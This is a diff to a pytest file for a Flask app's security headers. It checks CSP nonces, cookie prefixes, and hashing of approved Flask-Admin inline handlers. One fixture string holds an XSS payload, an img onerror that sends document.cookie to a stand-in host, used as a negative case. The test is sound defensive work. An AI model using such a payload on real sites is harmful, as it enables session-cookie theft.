@@ -2,12 +2,15 @@
 each blueprint's pages and files, signed in and not."""
 
 import re
+from base64 import b64encode
+from hashlib import sha256
 
 import pytest
 from bs4 import BeautifulSoup
 
 from app.extensions import db
 from app.models import Document, Quote, ServiceRequest, Unit
+from app.security_headers import handler_hashes
 from app.services.service_requests import hash_status_token
 from app.storage import save_bytes
 from tests import factories as f
@@ -142,7 +145,9 @@ def test_pages_allow_only_scripts_from_the_site_or_with_this_requests_nonce(
         response = client.get(path, base_url=HTTPS)
         script_src = _directives(response.headers["Content-Security-Policy"])["script-src"]
         (nonce,) = re.findall(r"'nonce-([^']+)'", script_src)
-        assert script_src == f"'self' 'nonce-{nonce}'"
+        assert (
+            script_src.startswith(f"'self' 'nonce-{nonce}'") and "unsafe-inline" not in script_src
+        )
         scripts = BeautifulSoup(response.data, "html.parser").find_all("script")
         assert scripts and all(script.get("nonce") == nonce for script in scripts), path
         nonces.add(nonce)
@@ -184,3 +189,23 @@ def test_production_cookies_carry_the_host_prefix(production, make_staff):
     for cookie in cookies.values():
         assert "secure" in cookie and "path=/" in cookie and "domain=" not in cookie
     assert client.get("/admin/", base_url=HTTPS).status_code == 200
+
+
+def test_only_flask_admins_own_inline_handlers_get_a_hash():
+    page = (
+        '<a onclick="return modelActions.execute(&#39;print_stickers&#39;);">'
+        "<button onclick=\"return faHelpers.safeConfirm('Delete this record?');\">"
+        '<a onclick="return false;"><a onclick="faForm.addInlineField(this, \'lines\');">'
+        "<img onerror=\"fetch('//evil.test/'+document.cookie)\">"
+        "<a onclick=\"return modelActions.execute('x'); steal()\">"
+    )
+    allowed = [
+        "return modelActions.execute('print_stickers');",
+        "return faHelpers.safeConfirm('Delete this record?');",
+        "return false;",
+        "faForm.addInlineField(this, 'lines');",
+    ]
+    expected = sorted(
+        f"'sha256-{b64encode(sha256(code.encode()).digest()).decode()}'" for code in allowed
+    )
+    assert handler_hashes(page) == expected
